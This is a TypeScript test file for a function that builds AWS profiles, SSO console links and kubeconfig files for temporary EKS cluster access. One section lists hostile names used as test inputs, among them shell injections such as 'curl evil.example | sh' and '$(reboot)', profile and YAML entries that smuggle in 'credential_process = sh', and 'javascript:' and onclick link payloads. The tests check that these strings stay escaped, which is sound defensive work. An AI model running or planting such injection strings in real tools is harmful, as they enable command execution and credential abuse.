import { execFileSync } from "node:child_process";
import { parse } from "yaml";
import { type AccessFacts, accessDetailsOf, type GrantedCluster } from "./access-details";

const CLUSTER: GrantedCluster = {
  name: "payments-eu",
  arn: "arn:aws:eks:eu-west-1:310254875561:cluster/payments-eu",
  accountId: "310254875561",
  region: "eu-west-1",
  endpoint: "https://ABCDEF.gr7.eu-west-1.eks.amazonaws.com",
  certificateAuthority: "LS0tLS1CRUdJTg==",
  endpointPublicAccess: true,
};
const FACTS: AccessFacts = {
  cluster: CLUSTER,
  principal: { strategy: "IDENTITY_CENTER", permissionSetName: "jit-ana-0a1b2c3d" },
  access: { policies: [{ policy: "AmazonEKSViewPolicy", namespaces: null }], kubernetesGroups: [] },
  sso: { portal: "https://d-0a1b2c3d4e.awsapps.com/start", region: "eu-central-1" },
  customAccessDetails: null,
  endsAt: new Date("2026-11-25T10:00:00Z"),
};
const NAME = "drawbridge-310254875561-eu-west-1-payments-eu";

describe("access by Identity Center", () => {
  it("has a link through the portal to the cluster in the console", () => {
    expect(accessDetailsOf(FACTS).portalLink).toBe(
      "https://d-0a1b2c3d4e.awsapps.com/start/#/console?account_id=310254875561&role_name=jit-ana-0a1b2c3d&destination=" +
        "https%3A%2F%2Feu-west-1.console.aws.amazon.com%2Feks%2Fclusters%2Fpayments-eu%3Fregion%3Deu-west-1",
    );
  });

  it.each([
    ["aws-us-gov", "us-gov-west-1", "https://us-gov-west-1.console.amazonaws-us-gov.com/eks/clusters/payments-eu"],
    ["aws-cn", "cn-north-1", "https://cn-north-1.console.amazonaws.cn/eks/clusters/payments-eu"],
  ])("GRANT-21: leads to the console of its partition, %s", (partition, region, url) => {
    const arn = `arn:${partition}:eks:${region}:310254875561:cluster/payments-eu`;
    const { portalLink } = accessDetailsOf(withCluster({ arn, region }));
    expect(new URLSearchParams(portalLink?.split("?")[1]).get("destination")).toBe(`${url}?region=${region}`);
  });

  it.each(["https://acme.awsapps.com/start/", "https://acme.awsapps.com/start/#/", "https://acme.awsapps.com/start#"])(
    "takes the portal however it was typed: %s",
    (portal) => {
      const { portalLink, awsProfile } = accessDetailsOf({ ...FACTS, sso: { ...FACTS.sso, portal } });
      expect(portalLink).toMatch(/^https:\/\/acme\.awsapps\.com\/start\/#\/console\?/);
      expect(awsProfile).toContain("sso_start_url = https://acme.awsapps.com/start\n");
    },
  );

  it("has a profile that signs in by the portal", () => {
    expect(accessDetailsOf(FACTS).awsProfile).toBe(`[sso-session drawbridge-d-0a1b2c3d4e-awsapps-com]
sso_start_url = https://d-0a1b2c3d4e.awsapps.com/start
sso_region = eu-central-1
sso_registration_scopes = sso:account:access

[profile ${NAME}]
sso_session = drawbridge-d-0a1b2c3d4e-awsapps-com
sso_account_id = 310254875561
sso_role_name = jit-ana-0a1b2c3d
region = eu-west-1
`);
  });
});

describe("access by a role of one's own", () => {
  const roleArn = "arn:aws:iam::310254875561:role/people/ana.silva@acme.example";
  const facts: AccessFacts = { ...FACTS, principal: { strategy: "IAM_ROLE_TEMPLATE", roleArn } };

  it("has a profile that assumes it, and no link through the portal", () => {
    const { awsProfile, portalLink, steps } = accessDetailsOf(facts);
    expect(awsProfile).toBe(`[profile ${NAME}]
role_arn = ${roleArn}
source_profile = YOUR_OWN_PROFILE
region = eu-west-1
`);
    expect(portalLink).toBeNull();
    expect(steps.join(" ")).toContain("YOUR_OWN_PROFILE");
  });
});

describe("the kubeconfig", () => {
  it("is complete, and has its tokens made by the AWS CLI", () => {
    expect(parse(accessDetailsOf(FACTS).kubeconfig ?? "")).toEqual({
      apiVersion: "v1",
      kind: "Config",
      clusters: [
        {
          name: NAME,
          cluster: { server: CLUSTER.endpoint, "certificate-authority-data": CLUSTER.certificateAuthority },
        },
      ],
      users: [
        {
          name: NAME,
          user: {
            exec: {
              apiVersion: "client.authentication.k8s.io/v1beta1",
              command: "aws",
              args: [
                ...["eks", "get-token", "--cluster-name", "payments-eu", "--region", "eu-west-1"],
                ...["--profile", NAME, "--output", "json"],
              ],
              interactiveMode: "IfAvailable",
              installHint: expect.any(String),
            },
          },
        },
      ],
      contexts: [{ name: NAME, context: { cluster: NAME, user: NAME } }],
      "current-context": NAME,
    });
  });

  it.each([
    ["one namespace", [["payments"]], [], "payments"],
    ["a pattern and a namespace", [["dev-*", "ledger"]], [], "ledger"],
    ["patterns only", [["dev-*"]], [], undefined],
    ["the whole cluster too", [["payments"], null], [], undefined],
    ["a group too", [["payments"]], ["readers"], undefined],
  ])("begins where one is allowed: %s", (_what, scopes, kubernetesGroups, namespace) => {
    const policies = scopes.map((namespaces, n) => ({ policy: `Policy${n}`, namespaces }));
    const { contexts } = parse(accessDetailsOf({ ...FACTS, access: { policies, kubernetesGroups } }).kubeconfig ?? "");
    expect(contexts[0].context.namespace).toBe(namespace);
  });

  it("is none where the cluster has no endpoint yet", () => {
    expect(accessDetailsOf(withCluster({ endpoint: null })).kubeconfig).toBeNull();
    expect(accessDetailsOf(withCluster({ certificateAuthority: null })).kubeconfig).toBeNull();
  });

  it.each(["no", "0123", "1e3", "~", "2026-11-25", "null"])("keeps the name %j a text in YAML 1.1 as well", (name) => {
    const text = accessDetailsOf(withCluster({ name })).kubeconfig ?? "";
    const args = parse(text, { version: "1.1" }).users[0].user.exec.args;
    expect(args[3]).toBe(name);
  });
});

describe("what somebody else has named", () => {
  const HOSTILE = [
    "x'; touch /tmp/owned; '",
    'x"; curl evil.example | sh; "',
    "$(reboot)",
    "`reboot`",
    "x\n[profile default]\ncredential_process = sh",
    "x\r\ncredential_process = sh",
    "x\u2028credential_process = sh",
    'x", "--endpoint-url", "https://evil.example',
    "x\n    command: sh",
    "*&!anchor",
    "x # comment",
    "$HOME",
  ];

  it.each(HOSTILE)("stays one word in a shell: %j", (name) => {
    const { updateKubeconfigCommand, profileName } = accessDetailsOf(withCluster({ name }));
    const script = updateKubeconfigCommand.replace(/^aws /, "printf '%s\\0' ");
    const words = execFileSync("/bin/sh", ["-c", script], { env: {} }).toString().split("\0").slice(0, -1);
    expect(words).toEqual([
      ...["eks", "update-kubeconfig", "--name", name, "--region", "eu-west-1"],
      ...["--profile", profileName, "--alias", profileName],
    ]);
  });

  it.each(HOSTILE)("stays one value in YAML: %j", (name) => {
    const config = parse(accessDetailsOf(withCluster({ name })).kubeconfig ?? "");
    expect(config.users[0].user.exec.command).toBe("aws");
    expect(config.users[0].user.exec.args.slice(0, 4)).toEqual(["eks", "get-token", "--cluster-name", name]);
    expect(Object.keys(config.users[0].user.exec)).toHaveLength(5);
  });

  it.each(HOSTILE)("stays one line in a profile: %j", (text) => {
    const { awsProfile } = accessDetailsOf({
      ...withCluster({ name: text, region: text, accountId: text }),
      principal: { strategy: "IDENTITY_CENTER", permissionSetName: text },
      sso: { portal: text, region: text },
    });
    const lines = awsProfile.split(/[\r\n\u2028\u2029\u0085]/).filter((line) => line !== "");
    expect(lines).toHaveLength(9);
    expect(lines.filter((line) => line.startsWith("["))).toEqual([
      expect.stringMatching(/^\[sso-session drawbridge-[A-Za-z0-9-]*\]$/),
      expect.stringMatching(/^\[profile drawbridge-[A-Za-z0-9_-]*\]$/),
    ]);
  });

  it.each(HOSTILE)("stays in its place in a link, or makes none: %j", (text) => {
    const link = accessDetailsOf({
      ...withCluster({ name: text }),
      principal: { strategy: "IDENTITY_CENTER", permissionSetName: text },
    }).portalLink;
    expect(new URLSearchParams(link?.split("#/console?")[1]).get("role_name")).toBe(text);
    expect(link).toMatch(/^https:\/\/d-0a1b2c3d4e\.awsapps\.com\/start\/#\/console\?[\w%.&=~!*'()-]*$/);
    expect(accessDetailsOf({ ...FACTS, sso: { portal: text, region: "eu-west-1" } }).portalLink).toBeNull();
  });

  it.each(["javascript:alert(1)", "http://acme.awsapps.com/start", 'https://acme.example/"onclick="x'])(
    "is no portal: %s",
    (portal) => expect(accessDetailsOf({ ...FACTS, sso: { ...FACTS.sso, portal } }).portalLink).toBeNull(),
  );

  it("is shown as the text it is", () => {
    const { customAccessDetails } = accessDetailsOf({
      ...FACTS,
      customAccessDetails: "<b>Ask</b>\nhttps://wiki.example",
    });
    expect(customAccessDetails?.html).toMatch(/^&lt;b&gt;Ask&lt;\/b&gt;<br><a href="https:\/\/wiki.example"/);
  });
});

describe("what a person should know", () => {
  it("GRANT-23, GRANT-25: is what ends late, and what kubectl does not tell", () => {
    const notes = accessDetailsOf(FACTS).notes.join("\n");
    expect(notes).toContain("up to 15 minutes");
    expect(notes).toContain("port-forward");
    expect(notes).toContain("can-i");
  });

  it("is that access without an end ends when it is revoked", () => {
    expect(accessDetailsOf({ ...FACTS, endsAt: null }).notes.join("\n")).toContain("until it is revoked");
  });

  it("GRANT-20: is that a private endpoint takes a network to reach it", () => {
    expect(accessDetailsOf(withCluster({ endpointPublicAccess: false })).notes.join("\n")).toContain("private");
    expect(accessDetailsOf(withCluster({ endpointPublicAccess: null })).notes.join("\n")).not.toContain("private");
  });

  it("is each step, with the commands to copy", () => {
    const { steps, environment } = accessDetailsOf(FACTS);
    expect(steps).toHaveLength(4);
    expect(steps[1]).toBe(`Sign in: aws sso login --profile ${NAME}`);
    expect(environment).toEqual([
      { name: "AWS_PROFILE", value: NAME },
      { name: "AWS_REGION", value: "eu-west-1" },
      { name: "KUBECONFIG", value: `~/.kube/${NAME}.yaml` },
    ]);
  });
});

function withCluster(change: Partial<GrantedCluster>): AccessFacts {
  return { ...FACTS, cluster: { ...CLUSTER, ...change } };
}
